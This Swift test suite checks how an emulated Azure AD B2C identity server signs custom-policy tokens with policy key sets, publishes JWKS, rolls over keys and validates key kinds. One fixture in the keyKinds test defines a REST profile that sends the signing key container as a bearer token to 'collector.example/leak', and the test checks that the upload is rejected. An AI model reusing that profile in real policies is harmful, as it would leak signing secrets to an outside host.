import CryptoExtras
import Foundation
import HummingbirdTesting
import JOSE
import Storage
import TestSupport
import Testing

@testable import IdentityDirectory
@testable import IdentityServer
@testable import TrustFramework
@testable import UserJourneys

/// A custom policy's tokens are signed with its JWT issuer's key set (`issuer_secret`), which its
/// JWKS publishes, as B2C signs and publishes them (SPEC §2.12; policy-keys-overview).
@Suite("Custom policies: tokens signed with the policy's key set")
struct CustomPolicySigningTests {
    static let policy = CustomPolicyRunTests.policy

    /// Carol signs in on the policy; the token response.
    static func signIn(_ h: IdentityHarness, _ driver: Driver) async throws -> (TestResponse, AuthorizationAttempt) {
        let (code, attempt) = try await signInCode(h, driver)
        return (try await driver.redeem(h, attempt: attempt, code: code), attempt)
    }

    /// Carol signs in on the policy; the code, not yet redeemed.
    static func signInCode(_ h: IdentityHarness, _ driver: Driver) async throws -> (code: String, attempt: AuthorizationAttempt) {
        let attempt = AuthorizationAttempt(harness: h, policy: Self.policy)
        let page = try await driver.start(attempt, harness: h)
        let done = try await driver.submit(page, [("signInName", "carol@example.com"), ("password", "Passw0rd!")])
        return (try #require(done.redirectParameters["code"], "\(done.status) \(done.text.prefix(400))"), attempt)
    }

    static func jwks(_ driver: Driver, _ path: String) async throws -> [String: _RSA.Signing.PublicKey] {
        JWKSet.signingKeys(from: Data(try await driver.get(path).text.utf8))
    }

    @Test("ID and access tokens, refreshed ones too, carry the key set's kid and verify with the policy's JWKS alone", arguments: TestDatabase.engines)
    func signedWithPolicyKey(engine: DatabaseEngine) async throws {
        try await IdentityHarness.run(engine) { h, driver in
            let key = try await PolicyFixtures.makeKeys(h.server.administration, tenantID: h.tenant.id)
            try await CustomPolicyRunTests.upload(h)
            _ = try await h.addUser("carol@example.com", name: "Carol")
            let (tokens, attempt) = try await Self.signIn(h, driver)
            #expect(tokens.status == .ok, "\(tokens.text)")

            let published = try await Self.jwks(driver, h.path(Self.policy, "discovery/v2.0/keys"))
            #expect(Array(published.keys) == [key.kid], "the policy publishes its key set, not the user flows' key")
            let flows = try await Self.jwks(driver, h.path("B2C_1_susi", "discovery/v2.0/keys"))
            #expect(flows[key.kid] == nil && !flows.isEmpty)
            let document = try await driver.get(h.path(Self.policy, "v2.0/.well-known/openid-configuration")).json
            #expect((document["jwks_uri"] as? String)?.hasSuffix("/\(Self.policy)/discovery/v2.0/keys") == true)

            let refreshed = try await driver.post(
                attempt.endpoint("oauth2/v2.0/token", harness: h),
                [("grant_type", "refresh_token"), ("client_id", h.clientID), ("refresh_token", try #require(tokens.json["refresh_token"] as? String))])
            #expect(refreshed.status == .ok, "\(refreshed.text)")
            for response in [tokens, refreshed] {
                for name in ["id_token", "access_token"] {
                    let token = try RS256.parse(try #require(response.json[name] as? String, "\(name)"))
                    #expect(token.keyID == key.kid, "\(name)")
                    #expect(token.isSigned(by: try #require(published[key.kid])), "\(name)")
                    #expect(!flows.values.contains { token.isSigned(by: $0) }, "\(name) is not signed with the user flows' key")
                }
            }

            // Its ID token is this tenant's hint at logout: the session ends at once.
            let hint = try #require(tokens.json["id_token"] as? String)
            let logout = h.path(Self.policy, "oauth2/v2.0/logout") + "?post_logout_redirect_uri=\(IdentityHarness.redirect)&id_token_hint="
            let done = try await driver.get(logout + hint)
            #expect(done.location == IdentityHarness.redirect, "\(done.status) \(done.text.prefix(300))")
        }
    }

    @Test("rollover as B2C does it: a key with a later nbf is published at once and signs once it is valid; when it expires the undated key signs again")
    func rollover() async throws {
        try await IdentityHarness.run(.sqlite) { h, driver in
            let first = try await PolicyFixtures.makeKeys(h.server.administration, tenantID: h.tenant.id)
            try await CustomPolicyRunTests.upload(h)
            _ = try await h.addUser("carol@example.com", name: "Carol")
            let library = h.server.service.policyKeySets
            let now = h.clock.now
            let next = try await library.generateKey(
                tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet, use: "sig", kty: "RSA", notBefore: now.addingTimeInterval(3600),
                expires: now.addingTimeInterval(3 * 86_400))
            func signingKid() async throws -> String {
                let (tokens, _) = try await Self.signIn(h, driver)
                return try RS256.parse(try #require(tokens.json["id_token"] as? String)).keyID
            }
            let keys = h.path(Self.policy, "discovery/v2.0/keys")
            #expect(Set(try await Self.jwks(driver, keys).keys) == [first.kid, next.kid], "published before it signs")
            #expect(try await signingKid() == first.kid)
            h.clock.advance(by: 2 * 3600)
            #expect(try await signingKid() == next.kid, "dated and valid: it signs")
            h.clock.advance(by: 3 * 86_400)
            #expect(try await signingKid() == first.kid, "expired: the undated key is the fallback")
            #expect(Array(try await Self.jwks(driver, keys).keys) == [first.kid], "an expired key is no longer published")
        }
    }

    @Test("a key set that lost its keys after the upload: the sign-in ends naming it, and a code issued before is refused naming it, never a 500")
    func missingKey() async throws {
        try await IdentityHarness.run(.sqlite) { h, driver in
            try await CustomPolicyRunTests.upload(h)
            _ = try await h.addUser("carol@example.com", name: "Carol")
            let (code, attempt) = try await Self.signInCode(h, driver)
            #expect(try await h.server.unsignablePolicies(tenantID: h.tenant.id).isEmpty)
            #expect(try await h.server.administration.deletePolicyKeySet(tenantID: h.tenant.id, id: PolicyFixtures.signingKeySet))
            // What `serve` warns about at start: each relying party that cannot sign, and why.
            let unsignable = try await h.server.unsignablePolicies(tenantID: h.tenant.id)
            #expect(unsignable.map(\.policy).sorted() == ["B2C_1A_test_reset", "B2C_1A_test_susi"], "\(unsignable)")
            #expect(unsignable.allSatisfy { $0.reason.contains("B2C_1A_TokenSigningKeyContainer") })

            let redeemed = try await driver.redeem(h, attempt: attempt, code: code)
            #expect(redeemed.status != .ok && redeemed.status != .internalServerError, "\(redeemed.status)")
            #expect(redeemed.text.contains("B2C_1A_TokenSigningKeyContainer") && redeemed.json["id_token"] == nil, "\(redeemed.text)")

            let again = try await driver.start(AuthorizationAttempt(harness: h, policy: Self.policy), harness: h)
            let refused = try await driver.submit(again, [("signInName", "carol@example.com"), ("password", "Passw0rd!")])
            #expect(refused.redirectParameters["code"] == nil)
            #expect(refused.redirectParameters["error"] == "server_error", "\(refused.status) \(refused.location ?? "")")
            #expect(refused.redirectParameters["error_description"]?.contains("B2C_1A_TokenSigningKeyContainer") == true)
        }
    }

    @Test("a relying party whose JWT issuer names no issuer_secret is refused; one that gets it through IncludeTechnicalProfile is not")
    func issuerNeedsKey() throws {
        func problems(_ base: String) throws -> [String] {
            let chain = [base, PolicyFixtures.extensions(), PolicyFixtures.relyingParty()].map { try! PolicyXML.parse(Data($0.utf8)) }
            return PolicyCheck.effective(PolicyMerge.effective(chain))
        }
        let keys = #"<CryptographicKeys><Key Id="issuer_secret" StorageReferenceId="B2C_1A_TokenSigningKeyContainer" /></CryptographicKeys>"#
        #expect(try problems(PolicyFixtures.base()).isEmpty)
        let keyless = PolicyFixtures.base().replacingOccurrences(of: keys, with: "")
        #expect(try problems(keyless).contains { $0.contains("TechnicalProfile 'TokenIssuer' issues tokens but has no CryptographicKeys Key 'issuer_secret'") })
        // The same key on a profile the issuer includes counts.
        let included = keyless.replacingOccurrences(
            of: #"<TechnicalProfile Id="TokenIssuer">"#,
            with: #"<TechnicalProfile Id="IssuerKeys"><Protocol Name="None" />\#(keys)</TechnicalProfile><TechnicalProfile Id="TokenIssuer"><IncludeTechnicalProfile ReferenceId="IssuerKeys" />"#)
        let includedProblems = try problems(included)
        #expect(includedProblems.isEmpty, "\(includedProblems)")
    }

    @Test("a profile that sends a secret out cannot name an RSA key set, nor take one at run time; a JWT issuer cannot sign with a secret")
    func keyKinds() async throws {
        try await IdentityHarness.run(.sqlite) { h, _ in
            let administration = h.server.administration
            try await PolicyFixtures.makeKeys(administration, tenantID: h.tenant.id, secrets: ["B2C_1A_Secret": "s3cret-value"])
            let library = h.server.service.policyKeySets
            #expect(try await library.activeSecret(tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet) == nil, "never the private key")
            #expect(try await library.activeSecret(tenantID: h.tenant.id, keySet: "B2C_1A_Secret") == "s3cret-value")
            // An RSA key in a secret's set is not its active secret, nor a secret in a signing set its signing key.
            _ = try await library.generateKey(tenantID: h.tenant.id, keySet: "B2C_1A_Secret", use: "sig", kty: "RSA", notBefore: nil, expires: nil)
            #expect(try await library.activeSecret(tenantID: h.tenant.id, keySet: "B2C_1A_Secret") == "s3cret-value")

            let leaking = PolicyFixtures.base(claimsProviderExtra: """
                <TechnicalProfile Id="REST-Leak">
                  <Protocol Name="Proprietary" Handler="Web.TPEngine.Providers.RestfulProvider, Web.TPEngine" />
                  <Metadata><Item Key="ServiceUrl">https://collector.example/leak</Item><Item Key="AuthenticationType">Bearer</Item></Metadata>
                  <CryptographicKeys><Key Id="BearerAuthenticationToken" StorageReferenceId="B2C_1A_TokenSigningKeyContainer" /></CryptographicKeys>
                </TechnicalProfile>
                """)
            let secretSigner = PolicyFixtures.base().replacingOccurrences(
                of: #"<Key Id="issuer_secret" StorageReferenceId="B2C_1A_TokenSigningKeyContainer" />"#,
                with: #"<Key Id="issuer_secret" StorageReferenceId="B2C_1A_Unsigned" />"#)
            _ = try await administration.createPolicyKeySet(tenantID: h.tenant.id, id: "B2C_1A_Unsigned")
            _ = try await administration.uploadPolicySecret(tenantID: h.tenant.id, keySet: "B2C_1A_Unsigned", use: "sig", value: "not-a-signing-key")
            for (policy, expected) in [
                (leaking, "'B2C_1A_TokenSigningKeyContainer' (key 'BearerAuthenticationToken'), which does not exist in this tenant or holds no secret"),
                (secretSigner, "'B2C_1A_Unsigned' (key 'issuer_secret'), which does not exist in this tenant or holds no RSA signing key"),
            ] {
                do {
                    try await administration.uploadCustomPolicies([Data(policy.utf8)], tenant: h.tenant)
                    Issue.record("uploaded: \(expected)")
                } catch let rejection as PolicyRejection {
                    #expect(rejection.problems.contains { $0.contains(expected) }, "\(rejection.problems)")
                }
            }
            #expect(try await administration.customPolicies(tenantID: h.tenant.id).isEmpty)
            let signing = try await library.signingKey(tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet).kid
            _ = try await administration.uploadPolicySecret(tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet, use: "sig", value: "later")
            #expect(try await library.signingKey(tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet).kid == signing)
        }
    }

    @Test("a custom policy's token for Microsoft Graph is signed with the key Graph verifies, not the policy's")
    func graphTokens() async throws {
        try await IdentityHarness.run(.sqlite) { h, _ in
            let key = try await PolicyFixtures.makeKeys(h.server.administration, tenantID: h.tenant.id)
            try await CustomPolicyRunTests.upload(h)
            let program = try #require(try await h.server.service.customPolicies.program(tenantID: h.tenant.id, id: Self.policy))
            let flow = UserFlow(customPolicy: program, tenantID: h.tenant.id)
            let issuer = h.server.service.issuer
            let graph = TokenResource(audience: APIPermission.graphResource, scopeNames: ["User.Read"])
            let api = TokenResource(audience: h.clientID, scopeNames: [])
            let ring = try await h.server.keys.activeKey()
            #expect(try await issuer.signingKey(for: graph, flow: flow, tenantID: h.tenant.id).kid == ring.kid)
            #expect(try await issuer.signingKey(for: api, flow: flow, tenantID: h.tenant.id).kid == key.kid)
        }
    }

    @Test("sign-ins read the key set through a cache: another instance's new key signs within its lifetime, this instance's at once")
    func keySetCache() async throws {
        try await IdentityHarness.run(.sqlite) { h, _ in
            let first = try await PolicyFixtures.makeKeys(h.server.administration, tenantID: h.tenant.id)
            let library = h.server.service.policyKeySets
            let set = PolicyFixtures.signingKeySet
            #expect(try await library.signingKey(tenantID: h.tenant.id, keySet: set).kid == first.kid)
            let other = PolicyKeySetLibrary(database: h.database, dataKey: h.server.service.dataKey, clock: h.clock)
            let next = try await other.generateKey(
                tenantID: h.tenant.id, keySet: set, use: "sig", kty: "RSA", notBefore: h.clock.now.addingTimeInterval(-60), expires: nil)
            #expect(try await library.signingKey(tenantID: h.tenant.id, keySet: set).kid == first.kid, "read a moment ago")
            h.clock.advance(by: PolicyKeySetCache.lifetime + 1)
            #expect(try await library.signingKey(tenantID: h.tenant.id, keySet: set).kid == next.kid)
            let third = try await library.generateKey(
                tenantID: h.tenant.id, keySet: set, use: "sig", kty: "RSA", notBefore: h.clock.now.addingTimeInterval(-5), expires: nil)
            #expect(try await library.signingKey(tenantID: h.tenant.id, keySet: set).kid == third.kid, "this instance's own write")
            #expect(try await library.publishedKeys(tenantID: h.tenant.id, keySet: set).map(\.kid).sorted() == [first.kid, next.kid, third.kid].sorted())
        }
    }

    @Test("the active key: of the valid keys the one activated last; an undated key only when no dated key is valid")
    func activeKeyRule() {
        let now = Date(timeIntervalSince1970: 1_800_000_000)
        func key(_ kid: String, nbf: TimeInterval?, exp: TimeInterval? = nil, created: TimeInterval) -> PolicyKey {
            PolicyKey(
                kid: kid, use: "sig", kty: "RSA", n: nil, e: nil, notBefore: nbf.map { now.addingTimeInterval($0) },
                expires: exp.map { now.addingTimeInterval($0) }, createdAt: now.addingTimeInterval(created))
        }
        func active(_ keys: [PolicyKey]) -> String? { PolicyKeySetLibrary.active(in: PolicyKeySet(id: "B2C_1A_K", keys: keys), at: now)?.kid }
        #expect(active([key("undated", nbf: nil, created: -10)]) == "undated")
        // A newer undated key does not displace a valid dated one.
        #expect(active([key("dated", nbf: -100, created: -50), key("undated", nbf: nil, created: -10)]) == "dated")
        // Two dated keys: the one activated last, whatever the order they were made in.
        #expect(active([key("later", nbf: -10, created: -100), key("earlier", nbf: -90, created: -5)]) == "later")
        #expect(active([key("future", nbf: 60, created: -5), key("undated", nbf: nil, created: -100)]) == "undated")
        #expect(active([key("expired", nbf: -100, exp: -1, created: -5), key("undated", nbf: nil, created: -100)]) == "undated")
        #expect(active([key("expired", nbf: -100, exp: -1, created: -5)]) == nil)
        // The same activation date: the one made later.
        #expect(active([key("first", nbf: -10, created: -100), key("second", nbf: -10, created: -50)]) == "second")
    }
}
